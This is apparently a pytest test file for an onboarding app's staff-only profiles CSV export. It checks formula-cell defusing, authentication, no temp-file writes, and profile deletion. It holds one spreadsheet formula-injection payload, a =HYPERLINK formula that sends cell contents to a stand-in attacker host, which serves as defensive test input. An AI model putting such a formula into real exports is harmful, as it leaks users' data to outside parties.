"""The profiles CSV: a staff-only download streamed from the database (no file in any temp or Gradio cache folder),
cells a spreadsheet would run as formulas defused; and deleting a profile leaves nothing derived from it."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlmodel import select

from models import RoomGrant
from onboarding.admin.profiles import delete_profile, safe_cell
from onboarding.api.grants import reserve, used_reason
from onboarding.db import session_scope
from onboarding.interview import FieldUpdate
from onboarding.recorder import CallRecorder
from onboarding.settings import Settings

PASSWORD = "exports-test-admin-password"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your bonus")'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(_env_file=None, database_url=f"sqlite:///{tmp_path / 'exports.db'}", admin_password=PASSWORD)


def call_with(settings: Settings, room: str, user_id: str, answers: dict[str, str]) -> CallRecorder:
    recorder = CallRecorder(settings.database_url, room_name=room, user_id=user_id, participant_identity="caller-1")
    turn = recorder.add_turn("user", "what the caller said")
    recorder.apply([FieldUpdate(name, value, value, 1.0, 1, None, "answer") for name, value in answers.items()],
                   {1: turn})
    recorder.finish("completed", profile_complete=True)
    assert recorder.flush()  # written by the recorder's writer thread
    return recorder


def test_formula_cells_are_defused() -> None:
    for dangerous in ("=1+1", "+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"):
        assert safe_cell(dangerous) == "'" + dangerous
    assert safe_cell("Maria Garcia") == "Maria Garcia" and safe_cell(20) == 20 and safe_cell("a=b") == "a=b"


def test_the_export_is_a_staff_download_streamed_without_a_file(settings: Settings, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from dashboard import create_app

    call_with(settings, "onboarding-formula", HYPERLINK, {"full_name": "@Maria", "phone": "+15550100",
                                                          "company": "Acme"})
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # anything written through tempfile lands here
    with TestClient(create_app(settings)) as http:
        assert http.get("/admin/exports/profiles.csv").status_code == 401
        http.post("/admin/login", data={"username": "admin", "password": PASSWORD})
        sent = http.get("/admin/exports/profiles.csv", params={"search": "formula"})
        assert http.get("/admin/exports/profiles.csv", params={"from": "yesterday"}).status_code == 400
    assert sent.status_code == 200 and sent.headers["content-type"].startswith("text/csv")
    assert sent.headers["content-disposition"].startswith("attachment; filename=\"profiles-")
    assert sent.headers["cache-control"] == "no-store"
    (row,) = list(csv.DictReader(io.StringIO(sent.text, newline="")))
    assert row["user_id"] == "'" + HYPERLINK  # a spreadsheet shows it as text instead of running it
    assert row["full_name"] == "'@Maria" and row["phone"] == "'+15550100" and row["company"] == "Acme"
    assert list(scratch.iterdir()) == []


def test_deleting_a_profile_leaves_no_caller_data_and_the_room_stays_used(settings: Settings) -> None:
    room = "onboarding-to-forget"
    reserve(settings, room_name=room, mode="voice", identity="caller-abc", client="203.0.113.50", lifetime=600)
    recorder = call_with(settings, room, "user-9", {"full_name": "Maria Garcia"})
    assert delete_profile(settings.database_url, recorder.profile_id)
    with session_scope(settings.database_url) as db:
        grant = db.exec(select(RoomGrant).where(RoomGrant.room_name == room)).one()
    assert (grant.identity, grant.client_address, grant.credential_hash) == ("", None, None)
    assert used_reason(settings.database_url, room) is not None  # the name is never handed out again
